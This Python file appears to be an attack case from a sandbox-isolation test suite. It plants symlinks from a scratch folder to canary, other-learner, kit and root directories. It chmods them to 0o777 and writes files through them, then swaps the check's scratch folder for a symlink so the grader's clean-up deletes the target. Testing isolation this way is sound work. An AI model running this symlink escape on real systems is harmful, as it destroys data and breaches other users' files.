"""Attack: symlinks out of scratch. The "directories" it makes are symlinks to the canaries'
folder, the other learner's folder, the kit and /; it tries to swap the check's scratch folder for
a symlink (the grader's clean-up then deletes what it points to) and to chmod through the links."""

import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import attack_kit  # noqa: E402

T = attack_kit.TARGETS


def _links(folder: str) -> None:
    names = {"canaries": T.get("canary_dir", "/tmp"), "other": T.get("other_learner", "/tmp"),
             "kit": T.get("kit", "/"), "site": T.get("site", "/"), "root": "/",
             "outputs": "/tmp"}
    for name, target in names.items():
        attack_kit.attempt(os.symlink, target, os.path.join(folder, f"escape-{name}"))
        attack_kit.attempt(os.chmod, os.path.join(folder, f"escape-{name}"), 0o777)
        attack_kit.write(os.path.join(folder, f"escape-{name}", "planted"), "planted\n")


def setup_volume(volume_path, container_path):
    scratch = os.path.dirname(os.path.dirname(os.path.abspath(volume_path)))
    while scratch != "/" and not os.path.basename(scratch).startswith("test_"):
        scratch = os.path.dirname(scratch)
    for path, target in ((volume_path, T.get("canary_dir", "/tmp")),
                         (container_path, T.get("other_learner", "/tmp"))):
        attack_kit.attempt(os.makedirs, os.path.dirname(path), exist_ok=True)
        attack_kit.attempt(os.symlink, target, path)
        attack_kit.attempt(os.chmod, path, 0o777)
    _links(scratch)
    _links(os.path.dirname(scratch))
    # The check's own folder swapped for a link to the canaries.
    attack_kit.attempt(os.rename, scratch, scratch + ".moved")
    attack_kit.attempt(os.symlink, T.get("canary_dir", "/tmp"), scratch)
